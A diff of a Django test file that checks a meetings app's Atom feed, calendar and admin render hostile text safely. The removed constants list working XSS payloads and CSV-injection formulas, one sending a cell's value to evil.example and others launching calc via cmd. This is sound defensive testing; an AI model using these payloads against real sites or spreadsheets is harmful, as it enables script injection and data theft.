@@ -18,17 +18,22 @@ from collections.abc import Callable
 from dataclasses import dataclass
 from urllib.parse import quote, urlencode
 
+import icalendar
 import pytest
 from django.contrib import admin
 from django.contrib.admin.models import CHANGE, LogEntry
 from django.contrib.contenttypes.models import ContentType
 from django.core.files.base import ContentFile
-from django.db import models
+from django.db import models, transaction
 from django.urls import reverse
 from django.utils import timezone, translation
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from modeltranslation.translator import NotRegistered, translator
 
 from chairmanship.models import ChairmanshipTerm
+from meetings.calendar import render_calendar
+from meetings.feeds import MeetingFeed
 from meetings.models import (
     AgendaItemKind,
     MeetingDocument,
@@ -39,6 +44,7 @@ from meetings.models import (
     StatementKind,
 )
 from meetings.record import record_models
+from meetings.text import printable
 from members.models import MembershipStatus, ParticipantKind
 from tests.factories import (
     AgendaItemFactory,
@@ -53,6 +59,7 @@ from tests.factories import (
     SpeakerFactory,
     StaffFactory,
 )
+from tests.security.hostile import CONTROL, FORMULAE, MARKUP, UNTERMINATED
 from tests.security.readers import (
     read_atom,
     read_calendar,
@@ -64,38 +71,6 @@ from tests.security.readers import (
 pytestmark = pytest.mark.django_db
 
 LANGUAGES = ("en", "ru")
-
-# A spreadsheet runs a cell that starts with one of these (OWASP, "CSV Injection").
-FORMULAE = (
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-)
-MARKUP = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(2)>",
-    '<a href="javascript:alert(3)">j</a>',
-    '<a href=" jAvA&#x09;ScRiPt:alert(4)">t</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==">d</a>',
-    '<iframe srcdoc="&lt;script&gt;alert(6)&lt;/script&gt;"></iframe>',
-    "<svg onload=alert(7)><circle r=1 /></svg>",
-    '<p style="background:url(javascript:alert(8))">c</p>',
-    '"><script>alert(9)</script>',
-    "' onmouseover='alert(10)' x='",
-    '<form action="javascript:alert(11)"><button formaction=javascript:alert(11)>f</button>',
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
-    '<object data="javascript:alert(13)"></object><embed src=javascript:alert(13)>',
-    "&lt;script&gt;alert(14)&lt;/script&gt;",
-    "</textarea></title></style><script>alert(15)</script>",
-    '<!--<img src="--><img src=x onerror=alert(16)//">',
-    "]]></summary><script>alert(17)</script>",
-    '<base href="javascript:alert(18)//"><meta http-equiv=refresh content="0;url=javascript:1">',
-)
-# Text pasted from a word processor; NUL is left out, as PostgreSQL cannot store it.
-CONTROL = "\x01\x08\x0b\x0c\x1b\x1f\x7f"
-# Last, as it swallows what follows it wherever the text is read as HTML.
-UNTERMINATED = '<img src=x onerror=alert(99) alt="'
 
 
 def translated_fields(model):
@@ -475,3 +450,43 @@ def test_admin_shows_hostile_text_as_text(client, editor, hostile_record):
     )
     shown = assert_safe_and_shown(client, staff_outputs(hostile_record))
     assert unseen_words(shown) == []
+
+
+# --- Any text, in the formats that carry it ---------------------------------------------------
+
+PIECES = st.sampled_from((*MARKUP, *FORMULAE, UNTERMINATED, CONTROL, "\r\n", "<p>", "&amp;"))
+ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30)
+EDITOR_TEXT = st.lists(st.one_of(PIECES, ANY_TEXT), max_size=5).map(" ".join)
+
+
+def as_xml_reads_it(text):
+    """XML parsers read every line break as a line feed."""
+    return text.replace("\r\n", "\n").replace("\r", "\n")
+
+
+@settings(
+    max_examples=40,
+    deadline=None,
+    derandomize=True,
+    database=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(title=EDITOR_TEXT, summary=EDITOR_TEXT, venue=EDITOR_TEXT)
+def test_feed_and_calendar_carry_any_text_as_text(rf, title, summary, venue):
+    with transaction.atomic():
+        meeting = MeetingFactory(
+            title_en=title[:250], summary_en=summary, venue_en=venue[:250], city_en=""
+        )
+        feed = MeetingFeed()(rf.get("/en/meetings/feed/")).content
+        calendar = render_calendar(
+            [meeting], language="en", absolute_url=lambda path: f"https://example.org{path}"
+        )
+        transaction.set_rollback(True)
+    reading = read_atom(feed)
+    assert reading.problems == []
+    title_text = as_xml_reads_it(printable(meeting.title_en))
+    assert reading.text[2] == title_text  # the feed's title, subtitle, then the entry's
+    calendar_reading = read_calendar(calendar)
+    assert calendar_reading.problems == []
+    (event,) = icalendar.Calendar.from_ical(calendar).walk("VEVENT")
+    assert str(event["SUMMARY"]) == printable(meeting.title_en).replace("\r\n", "\n")
